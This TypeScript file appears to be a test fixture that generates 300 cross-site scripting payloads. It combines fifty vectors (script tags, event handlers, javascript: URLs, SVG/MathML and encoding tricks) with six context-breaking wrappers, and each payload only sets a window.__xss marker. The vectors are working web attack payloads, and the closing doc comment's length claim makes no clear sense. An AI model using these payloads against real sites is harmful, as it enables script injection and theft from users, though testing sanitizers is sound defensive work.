// Fifty ways to run a script, each broken out of six surroundings. Every one would set window.__xss.
const RUN = 'window.__xss=1';

const WAYS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img/src/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<template><script>${RUN}</script></template>`,
  `<style>@import 'data:text/css,*{}';</style><img src=x onerror=${RUN}>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=x>x</button>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>`,
  `<div onmouseover=${RUN} style="position:fixed;inset:0">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<p><![CDATA[<script>${RUN}</script>]]></p>`,
  `javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>opener.__xss=1</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `';${RUN};//\`;${RUN};//";${RUN};//`,
];

const AROUND = [
  (way: string) => way,
  (way: string) => `">${way}`,
  (way: string) => `'>${way}`,
  (way: string) => `</textarea></title></style></script>${way}`,
  (way: string) => `-->${way}<!--`,
  (way: string) => `x" autofocus onfocus="${RUN}" y="${way}`,
];

/** The 300 payloads, all different, none longer than an event's name may be. */
export function payloads(): string[] {
  return AROUND.flatMap((around) => WAYS.map((way) => around(way)));
}
